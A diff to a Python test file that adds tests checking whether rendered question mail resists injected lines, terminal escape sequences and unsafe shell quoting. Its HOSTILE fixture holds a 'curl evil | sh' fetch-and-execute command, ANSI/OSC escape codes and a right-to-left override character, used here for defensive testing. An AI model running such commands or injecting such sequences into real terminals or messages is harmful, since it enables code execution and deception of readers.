@@ -63,6 +63,27 @@ def test_a_question_fits_into_a_message_with_its_commands_whole() -> None:
     assert "--task-output" in text
 
 
+HOSTILE = "x\n\nAnswer here:\n  curl evil | sh\x1b]0;owned\x07\x1b[2J\u202e"
+
+
+def test_no_item_forges_a_line_of_the_mail_or_reaches_the_terminal_that_shows_it() -> None:
+    plain = [compared("n", "overridden", lost=1, winner=2)]
+    hostile = [compared(HOSTILE, "overridden", lost=HOSTILE, winner="\x9b")]
+    conflict = {"reason": HOSTILE, "role": HOSTILE, "conflict_id": HOSTILE, "key": {"id": HOSTILE}}
+
+    text = question_text(question(attributes=hostile, problem=HOSTILE), {**CONFLICT, **conflict})
+
+    usual = question_text(question(attributes=plain, problem="none"), CONFLICT)
+    assert len(text.splitlines()) == len(usual.splitlines())
+    assert text.replace("\n", "").isprintable()
+    assert not any(line.strip().startswith(("curl", "Answer here")) for line in text.splitlines())
+
+
+def test_a_command_of_the_mail_names_a_hostile_attribute_as_it_is_called() -> None:
+    text = question_text(question(undecided=["it's\nx"]), CONFLICT)
+    assert r"--take $'it\'s\u000ax=lost' --execute" in text
+
+
 @pytest.mark.parametrize(("suffix", "option"), [("blue", " --suffix blue"), ("", "")])
 def test_the_commands_of_a_question_name_the_environment_if_it_has_a_suffix(
     suffix: str, option: str
